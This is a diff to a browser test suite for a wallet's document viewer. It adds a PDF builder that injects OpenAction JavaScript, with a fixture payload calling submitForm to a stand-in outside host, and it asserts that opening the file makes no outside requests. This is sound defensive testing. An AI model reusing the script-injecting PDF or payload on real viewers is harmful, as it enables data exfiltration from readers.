@@ -25,6 +25,13 @@ const { openWallet } = useWallet()
 const letters = await startLetters(platform)
 const { portal } = letters
 
+/** One that a viewer of good faith would run when it is opened. */
+const pdfWithScript = (script: string): Buffer => {
+  const action = `/OpenAction << /S /JavaScript /JS (${script.replaceAll(/[\\()]/g, '\\$&')}) >>`
+  const text = pdfWithLines(['A page']).toString('latin1')
+  return Buffer.from(text.replace('/Type /Catalog', `/Type /Catalog ${action}`), 'latin1')
+}
+
 /** Refusals that a test provokes: a browser writes each into its console. */
 const expected = /ERR_INTERNET_DISCONNECTED|ERR_FAILED|status of 40[0349]/
 
@@ -282,7 +289,7 @@ test(
 )
 
 test(
-  '[D1-DOC-20] a file that is not the announced one is neither shown nor signed, and neither is what is no file',
+  '[D1-DOC-20] a file that is not the announced one is neither shown nor signed; damaged and active ones do no harm',
   inBrowser,
   async () => {
     const { person, id: connection_id } = await connectedPerson(platform, letters)
@@ -295,7 +302,15 @@ test(
     }
     await send('Another file', envelopeOf(pdfWithLines([SECRET])))
     await send('No file', { hello: 'there' })
+    const active = pdfWithScript('app.alert(1); this.submitForm("https://elsewhere.example")')
+    for (const [name, bytes] of [
+      ['Damaged', Buffer.from('%PDF-1.7 and nothing that follows from it')],
+      ['With a script', active],
+    ] as const)
+      await portal.createDocument({ connection_id, name, file: { ...file, bytes } })
     const { page, go } = await openWallet(platform, { person, at: '/documents' })
+    const origins: string[] = []
+    page.on('request', (request) => origins.push(new URL(request.url()).origin))
     for (const [name, words] of [
       ['Another file', contentTexts.en.mismatch],
       ['No file', contentTexts.en.noFile],
@@ -306,6 +321,17 @@ test(
       assert.equal((await page.content()).includes(SECRET), false)
       await go('/documents')
     }
+    await page.getByRole('link', { name: 'Damaged' }).click()
+    await page.getByText(pdfTexts.en.damaged).waitFor()
+    await go('/documents')
+    await page.getByRole('link', { name: 'With a script' }).click()
+    await page.locator('canvas[data-state="drawn"]').waitFor()
+    const ours = [platform.frontDoor, platform.region('eu')].map((url) => new URL(url).origin)
+    assert.deepEqual(
+      origins.filter((origin) => !ours.includes(origin)),
+      [],
+      'nobody else is origins for anything',
+    )
   },
 )
 
